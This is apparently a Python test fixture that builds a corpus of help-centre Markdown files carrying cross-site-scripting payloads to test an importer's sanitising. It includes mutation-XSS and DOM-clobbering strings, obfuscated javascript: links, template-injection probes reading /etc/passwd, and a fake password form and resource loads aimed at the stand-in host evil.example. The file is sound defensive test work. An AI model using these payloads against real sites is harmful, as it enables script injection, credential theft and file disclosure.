# ruff: noqa: E501  an attack is one line
"""Known ways to make a browser run what an article's author wrote.

Whatever runs calls ``alert``. ``ATTACKS`` of the unit tests are bodies; here are those that need a
whole file, or a browser to be one: mutation, clobbering, the places where a title is shown.
"""

from dataclasses import dataclass

from tests.unit.knowledge_base.attacks import ATTACKS

OUTSIDE = "evil.example"
_IMG = "<img src=x onerror=alert(1)>"
_SCRIPT = "<script>alert(1)</script>"


@dataclass(frozen=True)
class Attack:
    """One file of a help centre.

    Attributes:
        path: below the imported folder.
    """

    path: str
    text: str


BODIES = [
    # mutation: what one parser leaves alone becomes something else in the next one
    f"<noscript><p title=\"</noscript>{_IMG}\">x</p></noscript>",
    f"<template><s>x</s><p title='</template>{_IMG}'></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    f"<svg></p><style><g title=\"</style>{_IMG}\">",
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    f"<math><annotation-xml encoding=\"text/html\"><style>{_IMG}</style></annotation-xml></math>",
    f"<svg><foreignObject><math><mi><style>{_IMG}</style></mi></math></foreignObject></svg>",
    f"<svg><desc><noscript>{_IMG}</noscript></desc></svg>",
    f"<select><template><style><!--</style><a rel=\"--></style></template></select>{_IMG}\">x</a>",
    f"<table><tr><td><p><table><caption>{_IMG}</caption></table>",
    f"<table><math><select><mi><style>{_IMG}</style>",
    "<p><p title='<p>'><b id='<p>'><a href='<script>alert(1)</script>'>x",
    f"<!-- <!-- --> {_IMG} -->",
    f"<!--{_SCRIPT}--!>{_IMG}",
    f"<!a foo=\"--!>{_IMG}\">",
    "<?xml-stylesheet href=\"><img src=x onerror=alert(1)>\"?>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    f"<plaintext>{_IMG}",
    f"<xmp><p title=\"</xmp>{_IMG}\">",
    f"<iframe><p title=\"</iframe>{_IMG}\"></iframe>",
    f"<noembed><p title=\"</noembed>{_IMG}\"></noembed>",
    f"<title>&lt;/title&gt;{_IMG}</title>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    # clobbering: names that scripts of the page look things up by
    "<a id=cookie href=x>x</a> <form id=body></form> <img name=cookie> <img id=location>",
    "<form name=getElementById><input name=querySelector></form> <a name=createElement id=forms>x</a>",
    "<h2 id=__proto__>a</h2> <h2 id=constructor>b</h2> <a id=customElements></a><a id=customElements name=define>x</a>",
    "# x {#content}\n\n# y {#Feedback}\n\n# z {#site-search}\n\n## constructor\n\n## __proto__",
    "<p id=relais-widget data-feedback data-talk data-accent='red;x' class=feedback-state>x</p>",
    f"<div data-feedback data-failed='{_IMG}'><p class=feedback-state data-said>x</p></div>",
    "<relais-widget data-name='x' data-customer='{}' onclick=alert(1)>x</relais-widget>",
    "<script type=module src=/widget/relais.js data-name=x></script><link rel=modulepreload href=//evil.example/x.js>",
    # addresses that are more than they seem
    "[x](java&Tab;script:alert(1)) [x](java&NewLine;script:alert(1)) [x](&#1;javascript:alert(1))",
    "[x](javascript://a.example/%0aalert(1)) [x](JAVASCRIPT&#58;alert(1)) [x](ｊavascript:alert(1))",
    "[x](<java\tscript:alert(1)>) [x](\u200bjavascript:alert(1)) [x](\u00a0javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](view-source:javascript:alert(1)) [x](feed:javascript:alert(1)) [x](jar:javascript:alert(1)!/) [x](livescript:alert(1))",
    "[x](javascript&#x3a;alert(1) 'y') <a href='javas&#99;ript:alert(1)'>x</a> <a href=\"\\x6aavascript:alert(1)\">x</a>",
    "<a href='&#14;javascript:alert(1)'>x</a> <a href='javascript&#0058alert(1)'>x</a> <a href=' &NewLine;javascript:alert(1)'>x</a>",
    "[a]: <javascript:alert(1)>\n[b]: data:text/html,<script>alert(1)</script>\n\n[a] [b] ![a] ![b]",
    "<javascript:alert(1)> <data:text/html,x> <vbscript:x> <https://evil.example/\"onfocus=\"alert(1)>",
    "[x](https://a.example/#\"onmouseover=\"alert(1)) [x](https://a.example/'onclick='alert(1))",
    "[x](/help/en/a/javascript:alert(1)) [x](/help/en/a/%22onclick=alert(1)) [x](//evil.example/help/en/a/b)",
    "[x](mailto:a@b.example?body=<script>alert(1)</script>) [x](tel:1\"onclick=\"alert(1))",
    "[x](/console/sign-out) ![x](/console/sign-out) <img src=/console/sign-out>",
    # pictures
    f"![a](/help/images/{'a' * 64}.svg) ![a](/help/images/{'a' * 64}.webp?x=\"onload=alert(1))",
    f"<img src=/help/images/{'a' * 64}.webp onload=alert(1) onerror=alert(1)>",
    f"<picture><source srcset=//{OUTSIDE}/x.png><img src=//{OUTSIDE}/x.png></picture><input type=image src=//{OUTSIDE}/x>",
    f"![{_IMG}](x) ![a](//{OUTSIDE}/x.png) ![a](https://{OUTSIDE}/x.gif \"{_IMG}\")",
    f"<img src=x alt='\"{_IMG}' title='{_IMG}' longdesc=javascript:alert(1) usemap=#m><map name=m><area href=javascript:alert(1)>",
    # what loads, sends or leads away
    f"<meta http-equiv=refresh content='0;url=//{OUTSIDE}'><base href=//{OUTSIDE}/><base target=_blank>",
    f"<link rel=prefetch href=//{OUTSIDE}/a><link rel=dns-prefetch href=//{OUTSIDE}><link rel=icon href=//{OUTSIDE}/b>",
    f"<form action=//{OUTSIDE}><input name=password autofocus onfocus=alert(1)><button>Sign in</button></form>",
    "<button form=x formaction=javascript:alert(1) popovertarget=y>x</button><div popover id=y onbeforetoggle=alert(1)>x</div>",
    f"<iframe src=//{OUTSIDE}></iframe><iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe><portal src=//{OUTSIDE}>",
    f"<object data=//{OUTSIDE}/x.swf><param name=movie value=//{OUTSIDE}></object><embed src=//{OUTSIDE}>",
    f"<video poster=//{OUTSIDE}/p><source src=//{OUTSIDE}/v onerror=alert(1)><track src=//{OUTSIDE}/t></video><audio autoplay src=//{OUTSIDE}/a>",
    f"<table background=//{OUTSIDE}/x><td background=//{OUTSIDE}/y>x</table><body background=//{OUTSIDE}/z>",
    # style
    f"<style>@import '//{OUTSIDE}/x.css'; *{{background:url(//{OUTSIDE}/y)}}</style><p style='background:url(//{OUTSIDE}/z)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9' class='skip button'>x</p><font color='red;x:expression(alert(1))'>y</font>",
    f"<svg><style>{{}}*{{x:expression(alert(1))}}</style><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/><image href=//{OUTSIDE}/x></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg><svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary>y</details><dialog open onclose=alert(1)>x</dialog>",
    "<marquee onstart=alert(1)>x</marquee><p onanimationstart=alert(1) oncontentvisibilityautostatechange=alert(1)>x</p>",
    # Markdown's own places
    f"| {_IMG} | [x](javascript:alert(1)) |\n|-|-|\n| `{_SCRIPT}` | {_SCRIPT} |\n| <td onclick=alert(1)> | \\| |",
    f"text[^a] and[^\"onclick=alert(1)]\n\n[^a]: {_IMG} [x](javascript:alert(1))\n[^\"onclick=alert(1)]: y",
    f"```\"onclick=alert(1) {_SCRIPT}\n</code></pre>{_IMG}\n```\n\n~~~html {{.x onclick=alert(1)}}\n{_SCRIPT}\n~~~",
    f"    {_SCRIPT}\n\n`` </code>{_IMG} ``\n\n*a*{_IMG}*b* ~~{_IMG}~~ **<b onclick=alert(1)>**",
    f"> [!WARNING]{_IMG}\n> x\n\n> [!\"onclick=alert(1)]\n> y\n\n1. {_IMG}\n   - {_SCRIPT}\n",
    f"# {_IMG}\n\n## [x](javascript:alert(1))\n\n### `{_SCRIPT}`\n\ntext\n\n## \"onclick=alert(1) x=\"\n\ntext",
    "# a {#x\" onclick=\"alert(1)}\n\n# b {: onclick=\"alert(1)\" style=\"x\"}\n\np {.a onclick=alert(1)}\n{: .b id=\"'><script>\"}",
    "Line one  \n<br onclick=alert(1)>two\\\n<hr onfocus=alert(1) tabindex=0>three &lt;br onclick=alert(1)&gt;",
    # signs that are not what they look like
    "\u202e<script>alert(1)</script>\u202c ＜script＞alert(1)＜/script＞ \ufeff<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<ſcript>alert(1)</ſcript> <scrıpt>alert(1)</scrıpt> <img src=x o\u00adnerror=alert(1)> <im&#0;g src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4- \x1b(J\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<img src=x\u000conerror=alert(1)> <img src=x\u3000onerror=alert(1)> <img/src=x/\u2028onerror=alert(1)>",
    # templates of the page and of other frameworks
    "{{ 7*7 }} {% raw %} {{ config }} ${alert(1)} #{alert(1)} <%= alert(1) %> {{constructor.constructor('alert(1)')()}}",
    "<div ng-app ng-csp>{{$eval.constructor('alert(1)')()}}</div><p x-data x-init=alert(1)>a</p><p hx-get=//evil.example hx-trigger=load>b</p>",
    "[x](//evil.example){:target=\"_blank\" onclick=\"alert(1)\"} https://evil.example/<script>alert(1)</script> www.evil.example",
]  # fmt: skip

_FRONT = [
    f"title: '{_IMG}'",
    f"title: '\"><{_SCRIPT}'",
    "title: '</title><script>alert(1)</script>'",
    "title: '</h1></main><svg onload=alert(1)>'",
    "title: \"javascript:alert(1)\"",
    f"title: x\ncategory: '{_IMG}/<b onclick=alert(1)>/\" onclick=\"alert(1)'",
    "title: x\ncategory: '../../console/{{ 7*7 }}'",
    f"title: x\ntags: ['{_IMG}', 'popular', '\" onclick=\"alert(1)']",
    f"title: x\nowner: '{_IMG}'\nextra: '{_SCRIPT}'",
    "title: '{{ config }}{% include \"/etc/passwd\" %}'\ntags: [popular]",
    "title: \"\\u202e<script>alert(1)</script>\"\ntags: [popular]",
    f"id: '{_SCRIPT}'\ntitle: x\ntranslation_group: '\"><script>alert(1)</script>'",
]  # fmt: skip
_SLUGS = [
    "javascript:alert(1)",
    "\" onclick=\"alert(1)",
    "../../console/sign-out",
    "//evil.example",
    "<script>alert(1)</script>",
    "a%22onclick=alert(1)",
    "a?x=<script>#\"onclick=alert(1)",
]  # fmt: skip
_NAMES = [
    f"{_IMG}.md",
    "\"onclick=\"alert(1).md",
    "javascript:alert(1).md",
    "'><svg onload=alert(1)>.md",
    f"{_IMG}'\"/<b onclick=alert(1)>.md",
    "%22%3e%3cscript%3ealert(1)%3c%2fscript%3e.md",
    "{{ 7*7 }}.md",
    "a\nb<img src=x onerror=alert(1)>.md",
    "\u202efdp.<script>.md",
]  # fmt: skip

CORPUS = [
    *(Attack(f"Known/known-{n:03}.md", f"# Known {n}\n\nBefore\n\n{body}\n\nAfter\n")
      for n, body in enumerate(ATTACKS) if "\0" not in body),
    *(Attack(f"Bodies/body-{n:03}.md", f"# Body {n}\n\nBefore {body}\n\n{body}\n\nAfter\n")
      for n, body in enumerate(BODIES)),
    *(Attack(f"front-{n:02}.md", f"---\n{front}\n---\nBefore {_IMG}\n")
      for n, front in enumerate(_FRONT)),
    *(Attack(f"slug-{n:02}.md", f"---\ntitle: Slug {n}\nslug: {slug!r}\n---\nText.\n")
      for n, slug in enumerate(_SLUGS)),
    *(Attack(name, "Text.\n") for name in _NAMES),
    *(Attack(f"titles/title-{n:02}.md", f"# {body.splitlines()[0]}\n\nText.\n")
      for n, body in enumerate(BODIES[:24])),
]  # fmt: skip

# The import says what is wrong with them and leaves them out: names with control characters,
# titles that leave nothing below.
REFUSED = {*_NAMES[-2:], *(f"titles/title-{n:02}.md" for n in (4, 9, 18))}
